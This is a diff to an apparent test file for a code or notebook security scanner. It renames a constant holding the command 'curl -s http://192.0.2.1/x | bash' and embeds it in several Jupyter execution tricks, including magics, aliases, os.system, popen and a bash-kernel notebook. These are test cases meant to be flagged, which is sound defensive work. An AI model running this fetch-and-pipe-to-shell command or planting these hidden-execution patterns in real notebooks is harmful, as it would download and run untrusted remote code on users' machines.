@@ -249,7 +249,7 @@ def review(source: str, name: str = "modeling_acme.py") -> Case:
     return python(source, Verdict.REVIEW, name)
 
 
-PIPED = "curl -s http://192.0.2.1/x | bash"
+PIPED_LINE = "curl -s http://192.0.2.1/x | bash"
 
 
 def notebook(*cells: str) -> str:
@@ -770,21 +770,21 @@ CASES = {
         for name, cells in {
             "names_of_another_cell": (
                 "import os",
-                f"command = '{PIPED}'",
+                f"command = '{PIPED_LINE}'",
                 "def go(c):\n    os.system(c)",
                 "go(command)",
             ),
-            "timed": (f"%timeit -n 1 __import__('os').system('{PIPED}')",),
-            "alias": (f"%alias go {PIPED}\ngo",),
-            "perl": (f"%%perl\nsystem('{PIPED}')",),
-            "cell_magic_called": (f"get_ipython().run_cell_magic('bash', '', '{PIPED}')",),
+            "timed": (f"%timeit -n 1 __import__('os').system('{PIPED_LINE}')",),
+            "alias": (f"%alias go {PIPED_LINE}\ngo",),
+            "perl": (f"%%perl\nsystem('{PIPED_LINE}')",),
+            "cell_magic_called": (f"get_ipython().run_cell_magic('bash', '', '{PIPED_LINE}')",),
             "line_magic_called": (
-                f"get_ipython().run_line_magic('timeit', '__import__(\"os\").popen(\"{PIPED}\")')",
+                f"get_ipython().run_line_magic('timeit', '__import__(\"os\").popen(\"{PIPED_LINE}\")')",
             ),
         }.items()
     },
     "notebook_of_a_shell": python(
-        notebook("x=1", PIPED)
+        notebook("x=1", PIPED_LINE)
         .replace('"metadata": {}, "nbformat"', '"nbformat"')
         .replace('"nbformat": 4', '"metadata": {"language_info": {"name": "bash"}}, "nbformat": 4'),
         Verdict.REVIEW,
